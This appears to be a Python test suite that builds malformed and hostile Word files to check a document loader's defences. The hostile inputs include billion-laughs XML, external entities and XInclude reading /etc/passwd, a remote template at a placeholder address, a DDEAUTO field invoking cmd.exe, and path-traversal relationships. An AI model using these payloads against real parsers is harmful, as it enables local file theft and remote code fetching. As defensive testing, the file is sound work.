"""Word files: XML that grows, nests or leads elsewhere, parts that are missing or in a circle, and what is no Word file."""

from collections.abc import Callable

from tests.hostile.case import HARD, Case, Expectation, checked, paper, refused
from tests.loaders.test_dispatch import ole2
from tests.word_files import paragraph, run, word_file, zipped

_HARD, _A = paragraph(HARD), paragraph("a")
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SWELLING = refused("would take too much room to unpack")
_OUT = "http://192.0.2.1/template.dotm"
_DAMAGED = refused("paper.docx is damaged")
_BEYOND = refused("too long or nested too deep", "Copy its text into a new file")
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "word/document.xml"


def between(attack: str, **parts: str) -> bytes:
    """The attack in the body of a Word file, with a hard sentence before and after it."""
    return word_file(f"{_HARD}{attack}{_HARD}", **parts)


def case(
    name: str,
    make: Callable[[], bytes],
    expect: Expectation | None = None,
    path: str = "paper.docx",
    seconds: float = 4,
    megabytes: int = 300,
) -> Case:
    """A case of a Word file."""
    return Case(f"word: {name}", paper(path, make), expect or checked(), seconds, megabytes)


def _as_main(xml: str | bytes) -> bytes:
    """A Word file with this as its main part."""
    return word_file("", more={_MAIN: xml})


def _with_dtd(dtd: str, text: str = "&a;") -> bytes:
    return _as_main(
        f"<!DOCTYPE w:document [{dtd}]><w:document {_W}><w:body>{_HARD}<w:p>{run(text)}</w:p></w:body></w:document>"
    )


def _related(kind: str, target: str, *, external: bool = False) -> dict[str, str]:
    """A part that relates the body to something of this kind."""
    mode = ' TargetMode="External"' if external else ""
    return {
        "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_RELATED}/{kind}" Target="{target}"{mode}/></Relationships>'
    }


_LAUGHS = (
    '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + '<!ENTITY a "&a9;">'
)
_CELL = f"<w:tc>{_A}</w:tc>"
_SYMBOL = '<w:sym w:font="Wingdings" w:char="F0FC"/>'
_FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
_MANY = {number: " ".join(f'xmlns:a{n}="a{n}"' for n in range(number)) for number in (10_000, 40_000)}
"""Attributes by the thousand, each of them a namespace of its own."""
_GROWING = {  # what stands between two hard sentences
    "200,000 runs in a paragraph": f"<w:p>{run('a ') * 200_000}</w:p>",
    "100,000 empty paragraphs": "<w:p/>" * 100_000,
    "100,000 tabs": f"<w:p><w:r>{'<w:tab/>' * 100_000}</w:r></w:p>",
    "100,000 line breaks": f"<w:p><w:r><w:t>a</w:t>{'<w:br/>' * 100_000}</w:r></w:p>",
    "a cell that spans 3,000,000 columns": f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="3000000"/></w:tcPr>{_A}</w:tc></w:tr></w:tbl>',  # noqa: E501
    "a cell that spans minus one column": f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-1"/></w:tcPr>{_A}</w:tc></w:tr></w:tbl>',  # noqa: E501
    "a table of 20,000 cells in a row": f"<w:tbl><w:tr>{_CELL * 20_000}</w:tr></w:tbl>",
    "a table without rows": "<w:tbl/>",
    "60 tables in each other": "<w:tbl><w:tr><w:tc>" * 60 + paragraph("a") + "</w:tc></w:tr></w:tbl>" * 60,
    "deleted text without an end": f"<w:p><w:del>{run('a ') * 20_000}</w:del></w:p>",
    "fields that are never closed": f"<w:p>{_FIELD.format('begin') * 5_000}</w:p>",
    "fields that were never opened": f"<w:p>{_FIELD.format('end') * 5_000}{_FIELD.format('separate') * 5_000}</w:p>",
    "a field that fetches": f"<w:p>{_FIELD.format('begin')}<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r>{_FIELD.format('separate')}{run('a')}{_FIELD.format('end')}</w:p>",  # noqa: E501
    "a level of a list beyond all numbers": paragraph(
        "a", '<w:numPr><w:ilvl w:val="99999999999999999999"/><w:numId w:val="1"/></w:numPr>'
    ),
    "a level of a heading beyond all numbers": paragraph("a", '<w:outlineLvl w:val="99999999999999999999"/>'),
    "a level that is no number": paragraph("a", '<w:outlineLvl w:val="evil"/>'),
    "footnotes that are not there": "".join(
        f'<w:p><w:r><w:footnoteReference w:id="{n}"/></w:r></w:p>' for n in range(5_000)
    ),
    "40,000 attributes": f"<w:p {_MANY[40_000].replace('xmlns:', '')}>{run('a')}</w:p>",
    "text boxes in text boxes": "<w:p><w:r><w:pict><v:textbox><w:txbxContent>" * 30
    + paragraph("a")
    + "</w:txbxContent></v:textbox></w:pict></w:r></w:p>" * 30,
    "signs of direction": paragraph("\u202e\u2066\u200f" * 5_000 + "a"),
    "symbols by number": f"<w:p><w:r>{_SYMBOL * 20_000}</w:r></w:p>",
    "symbols beyond Unicode": '<w:p><w:r><w:sym w:font="Symbol" w:char="FFFFFFFFFF"/><w:sym w:char="D800"/><w:t>a</w:t></w:r></w:p>',  # noqa: E501
    "a remote picture": f'<w:p><w:r><w:pict><v:shape><v:imagedata src="{_OUT}" r:href="rId1"/></v:shape></w:pict></w:r></w:p>',  # noqa: E501
}
_CHAIN = "".join(
    f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/><w:basedOn w:val="S{n + 1}"/></w:style>'
    for n in range(20_000)
)
_CIRCLE = "".join(
    f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/></w:style>' for n in range(3)
)
_STYLED = paragraph("a", '<w:pStyle w:val="S0"/>')
_PICTURE = "<w:p><w:r><w:drawing><wp:inline><wp:docPr id='1' descr=''/><a:blip r:embed='rId9'/></wp:inline></w:drawing></w:r></w:p>"  # noqa: E501
_NOTE = '<w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/></w:r>' + run("A note.") + "</w:p></w:footnote>"

CASES = (
    *(
        case(name, lambda attack=attack: between(attack), seconds=15, megabytes=500)
        for name, attack in _GROWING.items()
    ),
    case("entities that multiply", lambda: _with_dtd(_LAUGHS), _BEYOND),
    case(
        "one entity of 100 KB, 50,000 times",
        lambda: _with_dtd(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 50_000),
        _BEYOND,
    ),
    case("an entity from this machine", lambda: _with_dtd('<!ENTITY a SYSTEM "file:///etc/passwd">'), _DAMAGED),
    case("entities from the network", lambda: _with_dtd(f'<!ENTITY % a SYSTEM "{_OUT}"> %a;', "a"), _DAMAGED),
    case("a DTD that defines nothing", lambda: _with_dtd("", "a"), _DAMAGED),
    case(
        "a part included from this machine",
        lambda: between(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
    ),
    case(
        "a style sheet from the network",
        lambda: _as_main(f'<?xml-stylesheet href="{_OUT}"?><w:document {_W}><w:body>{_HARD}</w:body></w:document>'),
        checked(1),
    ),
    case(
        "5,000 controls in each other",
        lambda: between("<w:sdt><w:sdtContent>" * 5_000 + _HARD + "</w:sdtContent></w:sdt>" * 5_000),
        _BEYOND,
    ),
    case("a text of 12 MB in one run", lambda: between(paragraph("a " * 6_000_000)), _SWELLING, seconds=10),
    case("an attribute of 12 MB", lambda: between(f'<w:p w:a="{"a" * 12_000_000}"/>'), _SWELLING),
    case("names of 100 KB", lambda: between(f"<w:{'a' * 100_000}/>"), _BEYOND),
    case("10,000 namespaces", lambda: between(f"<w:p {_MANY[10_000]}/>")),
    case("cut in the middle of the XML", lambda: _as_main(f"<w:document {_W}><w:body>{_HARD}<w:p><w:r>"), _DAMAGED),
    case("no XML", lambda: _as_main("utilise"), _DAMAGED),
    case("an empty main part", lambda: _as_main(""), _DAMAGED),
    case("control characters", lambda: between(paragraph("a\x01b")), _DAMAGED),
    case("half a pair", lambda: between(paragraph("&#xD800;")), _DAMAGED),
    case(
        "another encoding than it says",
        lambda: _as_main(b'<?xml version="1.0" encoding="utf-8"?>' + b"<a>\xff\xfe</a>"),
        _DAMAGED,
    ),
    case(
        "UTF-7",
        lambda: _as_main(
            f'<?xml version="1.0" encoding="utf-7"?><w:document {_W}><w:body>{_HARD}</w:body></w:document>'
        ),
        checked(1),
    ),
    case(
        "UTF-16",
        lambda: _as_main(
            f'<?xml version="1.0" encoding="utf-16"?><w:document {_W}><w:body>{_HARD}</w:body></w:document>'.encode(
                "utf-16"
            )
        ),
        checked(1),
    ),
    case("no body", lambda: _as_main(f"<w:document {_W}/>"), refused("has no text in it")),
    case("another root", lambda: _as_main("<html><body>utilise</body></html>"), refused("paper.docx")),
    case(
        "no main part",
        lambda: word_file(_HARD, more={"_rels/.rels": "<Relationships/>"}),
        refused("has no document in it"),
    ),
    case(
        "a main part elsewhere",
        lambda: word_file(_HARD, more={"_rels/.rels": _rels("../../../../etc/passwd")}),
        refused("has no document in it"),
    ),
    case(
        "a main part on the network",
        lambda: word_file(_HARD, more={"_rels/.rels": _rels(_OUT)}),
        refused("has no document in it"),
    ),
    case(
        "a main part that is the list of parts",
        lambda: word_file(_HARD, more={"_rels/.rels": _rels("_rels/.rels")}),
        refused("paper.docx"),
    ),
    case("relations that are no XML", lambda: word_file(_HARD, more={"_rels/.rels": "a"}), _DAMAGED),
    case(
        "footnotes that are not in the file",
        lambda: word_file(_HARD, more=_related("footnotes", "none.xml")),
        checked(1),
    ),
    case(
        "footnotes that are the body", lambda: word_file(_HARD, more=_related("footnotes", "document.xml")), checked(1)
    ),
    case("styles that are a picture", lambda: word_file(_HARD, more={"word/styles.xml": "\x89PNG"}), _DAMAGED),
    case("a header that is the body", lambda: word_file(_HARD, more=_related("header", "document.xml")), checked(1)),
    case(
        "a remote template",
        lambda: word_file(_HARD, more=_related("attachedTemplate", _OUT, external=True)),
        checked(1),
    ),
    case(
        "a remote picture in the list",
        lambda: word_file(_HARD, more=_related("image", _OUT, external=True)),
        checked(1),
    ),
    case("20,000 styles, each of the next", lambda: between(_STYLED, styles=_CHAIN)),
    case("styles in a circle", lambda: between(_STYLED, styles=_CIRCLE)),
    case(
        "a footnote in itself",
        lambda: between('<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', footnotes=_NOTE),
    ),
    case("Strict Office Open XML", lambda: word_file(_HARD, strict=True), checked(1)),
    case("another file inside", lambda: between('<w:altChunk r:id="rId9"/>'), checked(2, "another file inside it")),
    case(
        "macros",
        lambda: word_file(_HARD, more={"word/vbaProject.bin": "a"}),
        checked(1, "We did not run them"),
        "paper.docm",
    ),
    case(
        "nothing but a picture",
        lambda: word_file(_PICTURE),
        refused("has pictures in it and no text"),
    ),
    case("nothing", lambda: word_file("<w:p/>"), refused("has no text in it")),
    case("hidden text alone", lambda: word_file(f"<w:p>{run('a', '<w:vanish/>')}</w:p>"), checked(0)),
    case("a password", lambda: ole2("EncryptionInfo", "EncryptedPackage"), refused("protected with a password")),
    case(
        "an old Word file",
        lambda: ole2("Root Entry", "WordDocument"),
        refused("is an old Word file (.doc), whatever its name says"),
    ),
    case("an old office file of no kind", lambda: ole2("Root Entry"), refused("is an old office file")),
    case(
        "rich text", lambda: b"{\\rtf1" + b"{" * 100_000, refused("is a rich text file (.rtf), whatever its name says")
    ),
    case("a web page", lambda: f"<!doctype html><p>{HARD}".encode(), checked(1)),
    case(
        "an Excel file",
        lambda: zipped({"[Content_Types].xml": '<a ContentType="spreadsheetml.sheet"/>'}),
        refused("is an Excel file"),
    ),
    case("a program", lambda: b"\x7fELF" + bytes(500), refused("is not a Word file")),
    case("empty", lambda: b"", refused("paper.docx is empty.")),
)


def _rels(target: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATED}/officeDocument" Target="{target}"/></Relationships>'
    )
